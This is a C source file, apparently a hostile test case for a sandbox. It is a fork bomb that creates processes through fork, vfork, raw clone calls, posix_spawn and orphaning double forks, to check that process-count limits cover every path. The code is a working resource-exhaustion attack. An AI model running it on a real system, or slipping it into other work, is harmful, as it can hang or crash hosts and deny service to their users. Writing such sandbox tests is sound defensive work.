/* forkbomb_clone: a fork bomb that uses every way to make a process, so
 * that a limit enforced on only one of them would leak: fork (trapped),
 * vfork, raw clone(SIGCHLD) and clone(CLONE_PARENT) (native ABI calls the
 * library OS never sees), clone3 (ENOSYS, then fallback), posix_spawn, and
 * double forks whose middle process exits at once so that the grandchild is
 * re-parented to pid 1 and no longer counted against its creator. Every
 * process loops doing the same, and prints nothing.
 * Usage: forkbomb_clone TAG   (run with --pids N and --timeout S)
 *
 * What should stop it: the pids cgroup (under root) or RLIMIT_NPROC counts
 * every process and thread of the sandbox however it was made; the wall
 * time limit then ends the pid namespace as a whole.
 */
#include "hostile.h"
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <sys/wait.h>
#include <time.h>

extern char **environ;

static void bomb(char **argv)
{
    for (unsigned long i = 0;; i++) {
        long p = -1;
        switch (i % 6) {
        case 0:
            p = syscall(SYS_fork);
            break;
        case 1:
            p = vfork();
            if (p == 0)
                _exit(0);
            break;
        case 2:
            p = syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
            break;
        case 3:
            p = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
            break;
        case 4: {
            pid_t sp;
            p = posix_spawn(&sp, "/proc/self/exe", NULL, NULL, argv, environ) == 0 ? sp : -1;
            break;
        }
        case 5:
            p = syscall(SYS_fork);
            if (p == 0) {
                if (syscall(SYS_fork) == 0)
                    continue; /* the grandchild bombs on, an orphan */
                _exit(0);
            }
            break;
        }
        if (p == 0)
            continue; /* a child: bomb on */
        if (p < 0) {
            struct timespec ts = {0, 2000000};
            nanosleep(&ts, NULL);
        }
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}

int main(int argc, char **argv)
{
    (void)argc;
    printf("START\n");
    fflush(stdout);
    bomb(argv);
}
